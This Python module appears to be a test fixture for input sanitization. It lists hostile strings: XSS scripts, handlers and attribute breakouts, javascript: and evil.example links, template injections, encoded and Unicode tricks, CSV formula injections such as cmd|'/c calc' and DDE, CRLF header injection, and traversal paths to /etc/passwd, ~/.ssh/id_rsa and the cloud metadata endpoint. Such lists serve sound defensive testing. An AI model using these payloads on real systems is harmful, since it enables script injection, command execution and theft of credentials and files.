"""Words that would be markup, code, formulas or paths, were they taken for what they look like."""

SCRIPTS = [
    "<script>window.__xss=1</script>", "<ScRiPt>window.__xss=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>window.__xss=1</script>", "<<script>window.__xss=1//<</script>", "<script\x00>window.__xss=1</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>", "<script type=module>window.__xss=1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">", "<!--><script>window.__xss=1</script>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>", "<?xml version='1.0'?><script>window.__xss=1</script>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=window.__xss=1>", "<img src=x onerror='window.__xss=1'", "<img/src=x/onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>", "<svg><script>window.__xss=1</script></svg>", "<svg/onload=window.__xss=1//",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>", "<body onload=window.__xss=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>", "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>", "<select autofocus onfocus=window.__xss=1>", "<video><source onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>", "<audio src=x onerror=window.__xss=1>", "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<xss id=x tabindex=1 onfocus=window.__xss=1>", "<a href=x onmouseover=window.__xss=1>甲</a>",
]  # fmt: skip
BREAKOUTS = [
    '" onmouseover="window.__xss=1', "' onfocus='window.__xss=1' autofocus='", '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>", "</textarea><img src=x onerror=window.__xss=1>", "</title><script>window.__xss=1</script>",
    "</style><img src=x onerror=window.__xss=1>", "</button><form action=//evil.example><button>甲", "--><img src=x onerror=window.__xss=1>",
    "</p></div></section><iframe src=//evil.example></iframe>", "` onmouseover=`window.__xss=1", 'x" style="position:fixed;inset:0" x="',
    "</td></tr></table><object data=//evil.example>", '" data-act="withdraw-yes" x="', "</option></select><img src=x onerror=window.__xss=1>",
    "</mark></p><embed src=//evil.example>", '" formaction="javascript:window.__xss=1', "\\\"><img src=x onerror=window.__xss=1>",
]  # fmt: skip
LINKS = [
    "[点这里](javascript:window.__xss=1)", "[点](JaVaScRiPt:window.__xss=1)", "[点](java\tscript:window.__xss=1)", "<javascript:window.__xss=1>",
    "![图](http://evil.example/a.png)", "![图](x\" onerror=\"window.__xss=1)", "[点][x]\n\n[x]: javascript:window.__xss=1", "<http://evil.example/>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", "<a href='javascript:window.__xss=1'>甲</a>", "<a href=//evil.example>甲</a>",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/a.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>", "javascript:window.__xss=1", "vbscript:msgbox(1)", "https://evil.example/",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{constructor.constructor('window.__xss=1')()}}", "${window.__xss=1}", "#{window.__xss=1}", "<%= window.__xss=1 %>",
    "{% import os %}", "{{#with this}}{{lookup this 'constructor'}}{{/with}}", "`${window.__xss=1}`", "{0.__class__.__mro__}", "{title}{file}{count}", "%s%n%x", "$$window.__xss=1$$", "\\(\\href{javascript:window.__xss=1}{x}\\)",
]  # fmt: skip
ENCODED = [
    "&lt;script&gt;window.__xss=1&lt;/script&gt;", "&#60;img src=x onerror=window.__xss=1&#62;", "&#x3c;svg onload=window.__xss=1&#x3e;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E", "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e", "＜script＞window.__xss=1＜／script＞",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-", "&amp;lt;img src=x onerror=window.__xss=1&amp;gt;", "&quot; onmouseover=&quot;window.__xss=1",
]  # fmt: skip
SIGNS = [
    "\u202e<gpj.exe>\u202c", "\u200b<\u200bscript>", "\u2066甲\u2069", "\ufeff<img src=x onerror=window.__xss=1>", "甲\x00乙<b>", "\u2028<script>window.__xss=1</script>\u2029",
    "A\u0301" * 30, "\ud83d\ude00<b>", "\x1b[31m红\x1b[0m<i>", "甲\r\nSet-Cookie: a=b\r\n\r\n<script>", "<" * 60, "&" * 60, "\"" * 60, "'" * 60,
]  # fmt: skip
STYLES = [
    "<style>*{display:none}</style>", "<p style='background:url(//evil.example/a)'>", "<div style=\"x:expression(window.__xss=1)\">", "@import '//evil.example/a.css';",
    "<style>@import url(//evil.example/a.css)</style>", "<input type=hidden style='behavior:url(x.htc)'>",
]  # fmt: skip
MARKUP = [*SCRIPTS, *HANDLERS, *BREAKOUTS, *LINKS, *TEMPLATES, *ENCODED, *SIGNS, *STYLES]

FORMULAS = [
    '=HYPERLINK("http://evil.example","点我")', "=cmd|'/c calc'!A1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x01@SUM(A1)", "\x7f=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\xa0=1+1",
    '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}", "%0A=1+1", '";=1+1', '",=1+1', "=1+1\";=1+1", "'=1+1", "=EXEC(\"calc\")",
]  # fmt: skip

PATHS = [
    "../users.yaml", "../../users.yaml", "../../../../../../etc/passwd", "/etc/passwd", "//etc/passwd", "/proc/self/environ", "/dev/zero", "/dev/stdin",
    "..\\..\\users.yaml", "C:\\Windows\\win.ini", "\\\\evil.example\\share\\a.txt", "%2e%2e%2fusers.yaml", "%252e%252e%252fusers.yaml", "..%2f..%2fetc%2fpasswd", "..%5c..%5cusers.yaml",
    "....//....//etc/passwd", "..;/users.yaml", "%2fetc%2fpasswd", "%c0%ae%c0%ae/etc/passwd", "a%00.txt", "/etc/passwd%00.txt", "file:///etc/passwd", "file://localhost/etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "https://evil.example/x", "CON", "NUL.txt", "aux.", "./././users.yaml", "~/.ssh/id_rsa", "$HOME/.bashrc", "/tmp/../etc/passwd", "ui.py", "pages/app.py",
]  # fmt: skip
